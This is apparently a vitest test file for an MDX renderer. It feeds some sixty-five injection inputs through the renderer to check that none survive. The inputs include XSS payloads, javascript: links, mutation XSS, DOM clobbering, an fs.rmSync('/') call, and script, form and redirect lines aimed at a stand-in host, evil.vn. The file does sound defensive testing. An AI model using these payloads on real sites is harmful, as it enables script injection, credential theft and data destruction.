import { describe, expect, it } from 'vitest';
import { parseBody, renderBody } from '../../src/mdx/index.ts';
import { unsafeParts } from './oracle.ts';
import { siteMedia } from './site-media.ts';

/** Every way that text has been made to run, as code of the build or of a reader's browser. */
const ATTACKS: readonly (readonly [string, string])[] = [
  ['expression', '{process.exit()}'],
  ['expression over lines', '{\n  process.exit()\n}'],
  ['expression in a heading', '# {globalThis.process.exit(1)}'],
  ['comment expression', '{/* */ process.exit()}'],
  ['ESM import', "import fs from 'node:fs'\n\n{fs.rmSync('/')}"],
  ['ESM side effect', "import 'node:child_process'"],
  ['ESM export', 'export const x = process.exit()'],
  ['ESM default export', 'export default ({children}) => process.exit()'],
  ['dynamic import', "{await import('node:fs')}"],
  ['attribute expression', '<Callout type={process.exit()}>\nx\n</Callout>'],
  ['attribute expression in an allowed tag', '<Figure src="/media/2022/anh.jpg" alt={process.exit()} />'],
  ['spread', '<Figure {...process.env} />'],
  [
    'spread after attributes',
    '<Callout type="info" {...{dangerouslySetInnerHTML:{__html:"<script>"}}}>x</Callout>',
  ],
  ['event attribute on an allowed tag', '<Figure src="/media/2022/anh.jpg" alt="x" onerror="alert(1)" />'],
  ['style attribute on an allowed tag', '<Callout type="info" style="position:fixed">x</Callout>'],
  ['class attribute on an allowed tag', '<Callout type="info" class="site-header">x</Callout>'],
  ['member tag', '<Figure.constructor />'],
  ['namespaced tag', '<svg:script>alert(1)</svg:script>'],
  ['prototype tag', '<constructor/><__proto__/><hasOwnProperty></hasOwnProperty>'],
  ['prototype attributes', '<Callout __proto__="x" constructor="y" type="info">x</Callout>'],
  ['script', '<script>alert(1)</script>'],
  ['script in capitals', '<SCRIPT SRC=//evil.vn/x.js></SCRIPT>'],
  ['script over lines', '<script\n>alert(1)\n\n</script>'],
  ['script in a list', '- <script>alert(1)</script>'],
  ['script in a quote', '> <script>alert(1)</script>'],
  ['script in a footnote', 'x[^1]\n\n[^1]: <script>alert(1)</script>'],
  ['script in a table', '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |'],
  ['event attribute', '<img src=x onerror=alert(1)>'],
  ['event attribute without spaces', '<svg/onload=alert(1)>'],
  ['svg', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
  ['svg with a foreign object', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></svg>'],
  ['style', '<style>body{display:none}</style>'],
  ['style with an import', "<style>@import '//evil.vn/x.css'</style>"],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=//evil.vn">'],
  ['base', '<base href="//evil.vn/">'],
  ['form', '<form action="//evil.vn"><input name=password><button>'],
  ['iframe', '<iframe src="javascript:alert(1)"></iframe>'],
  ['mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  [
    'mutation by math',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?>'],
  ['javascript link', '[x](javascript:alert(1))'],
  ['javascript link in capitals', '[x](JaVaScRiPt:alert(1))'],
  ['javascript link with a tab', '[x](<java\tscript:alert(1)>)'],
  ['javascript link with a reference', '[x](javascript&colon;alert(1))'],
  ['javascript link with numeric references', '[x](&#106;&#97;vascript:alert(1))'],
  ['javascript link with a newline reference', '[x](java&NewLine;script:alert(1))'],
  ['javascript link with a leading control character', '[x](&#1;javascript:alert(1))'],
  ['javascript link with a leading space', '[x](<&#32;javascript:alert(1)>)'],
  ['javascript link with an invisible character', '[x](java\u{200B}script:alert(1))'],
  ['javascript link by escapes', String.raw`[x](javascript\:alert\(1\))`],
  ['javascript link by reference', '[x][y]\n\n[y]: javascript:alert(1)'],
  ['javascript autolink', '<javascript:alert(1)>'],
  ['javascript in an image', '![x](javascript:alert(1))'],
  ['vbscript link', '[x](vbscript:msgbox(1))'],
  ['data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['data image', '![x](data:image/svg+xml,<svg/onload=alert(1)>)'],
  ['blob link', '[x](blob:https://a.b/c)'],
  ['file link', '[x](file:///etc/passwd)'],
  ['attribute break-out in a title', '[x](/y "\\" onmouseover=\\"alert(1)")'],
  ['attribute break-out in an address', '[x](/y"onmouseover="alert(1))'],
  ['attribute break-out in an alt text', '![" onerror="alert(1)](/x.png)'],
  ['attribute break-out in a language', '```"><script>alert(1)</script>\nx\n```'],
  ['clobbering by headings', '# location\n\n# __proto__\n\n# document'],
  ['clobbering by footnotes', 'x[^body]\n\n[^body]: y'],
];

describe.each(ATTACKS)('%s', (_name, source) => {
  it('is data on the site', () => {
    expect(unsafeParts(renderBody(parseBody(source), siteMedia).html)).toEqual([]);
  });

  it('is data in a preview', () => {
    expect(unsafeParts(renderBody(parseBody(source)).html)).toEqual([]);
  });

  it('names no other host that a page would ask', () => {
    expect(renderBody(parseBody(source), siteMedia).html).not.toMatch(/\ssrc(?:set)?="(?!\/anh\/)/u);
  });
});

it('the oracle itself finds what is unsafe', () => {
  expect(unsafeParts('<script>x</script>')).toEqual(['<script>']);
  expect(unsafeParts('<p onclick="x">y</p>')).toEqual(['onclick="x"']);
  expect(unsafeParts('<a href="java\tscript:x">y</a>')).toEqual(['href="java\tscript:x"']);
  expect(unsafeParts('<img src="data:x" alt="">')).toEqual(['src="data:x"']);
  expect(unsafeParts('<h2 id="location">x</h2>')).toEqual(['id="location"']);
  expect(unsafeParts('<input type="text">')).toEqual(['live <input>']);
});
